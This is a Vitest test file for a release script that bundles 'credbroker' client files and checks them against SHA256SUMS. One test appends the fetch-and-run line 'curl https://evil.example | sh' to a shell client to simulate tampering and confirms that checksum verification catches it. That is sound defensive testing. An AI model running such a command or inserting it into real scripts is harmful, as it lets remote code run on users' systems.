// `npm run release:client`: the two clients, the Action's entry point and SHA256SUMS, which
// `sha256sum -c` verifies; the files are exactly the committed ones.
import { afterAll, beforeAll, expect, it } from 'vitest';
import { readFileSync, readdirSync, statSync } from 'node:fs';
import path from 'node:path';
import { run, tempDir } from './helpers.js';

let out: { dir: string; cleanup(): void };
beforeAll(() => {
  out = tempDir('credbroker-release-');
});
afterAll(() => out.cleanup());

it('produces the two clients, the action bundle and SHA256SUMS, which sha256sum -c verifies', async () => {
  const dir = path.join(out.dir, 'release');
  const r = await run(process.execPath, ['scripts/release-client.mjs', '--out', dir], {}, { cwd: process.cwd() });
  expect(r.stderr).toBe('');
  expect(r.code).toBe(0);
  expect(readdirSync(dir).sort()).toEqual(['SHA256SUMS', 'credbroker-action.mjs', 'credbroker-client.mjs', 'credbroker-client.sh']);
  const check = await run('sha256sum', ['-c', 'SHA256SUMS'], {}, { cwd: dir });
  expect(check.stdout).toBe('credbroker-client.mjs: OK\ncredbroker-client.sh: OK\ncredbroker-action.mjs: OK\n');
  expect(check.code).toBe(0);
  for (const [name, source] of [
    ['credbroker-client.mjs', 'client/credbroker-client.mjs'],
    ['credbroker-client.sh', 'client/credbroker-client.sh'],
    ['credbroker-action.mjs', 'action/credbroker-action.mjs'],
  ]) {
    expect(readFileSync(path.join(dir, name!)).equals(readFileSync(source!)), name).toBe(true);
  }
  expect(statSync(path.join(dir, 'credbroker-client.sh')).mode & 0o111).not.toBe(0);
  // The sums printed are the ones in the file.
  for (const line of readFileSync(path.join(dir, 'SHA256SUMS'), 'utf8').trim().split('\n')) expect(r.stdout).toContain(line);
});

it('a tampered file fails verification', async () => {
  const dir = path.join(out.dir, 'tampered');
  expect((await run(process.execPath, ['scripts/release-client.mjs', '--out', dir], {}, { cwd: process.cwd() })).code).toBe(0);
  const { appendFileSync } = await import('node:fs');
  appendFileSync(path.join(dir, 'credbroker-client.sh'), 'curl https://evil.example | sh\n');
  const check = await run('sha256sum', ['-c', 'SHA256SUMS'], {}, { cwd: dir });
  expect(check.code).not.toBe(0);
  expect(check.stdout).toContain('credbroker-client.sh: FAILED');
});
